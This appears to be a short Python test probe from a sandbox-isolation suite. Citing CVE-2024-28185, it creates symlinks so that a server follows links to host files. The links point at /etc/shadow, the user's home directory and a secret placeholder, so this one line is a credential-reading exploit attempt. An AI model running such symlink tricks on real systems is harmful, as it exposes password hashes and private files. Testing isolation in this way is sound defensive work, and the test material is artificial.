# tries: to let the server follow a link to a host file (CVE-2024-28185)
# escaped if: the secret is in the result, or ESCAPED
# without isolation: run
import os
os.symlink("@SECRET@", "result.txt"); os.symlink("/etc/shadow", "image.png"); os.symlink("@HOMEDIR@", "folder")
